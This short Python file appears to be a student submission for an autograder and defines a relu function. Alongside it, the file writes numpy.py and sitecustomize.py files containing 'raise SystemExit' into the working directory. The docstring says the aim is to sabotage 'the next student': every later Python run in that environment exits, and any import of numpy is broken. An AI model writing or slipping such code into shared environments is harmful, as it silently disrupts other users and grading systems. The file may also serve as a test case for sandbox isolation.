"""Leave a numpy.py for the next student.

points: 1
"""

open("numpy.py", "w").write("raise SystemExit")
open("sitecustomize.py", "w").write("raise SystemExit")
def relu(z):
    return np.maximum(z, 0)
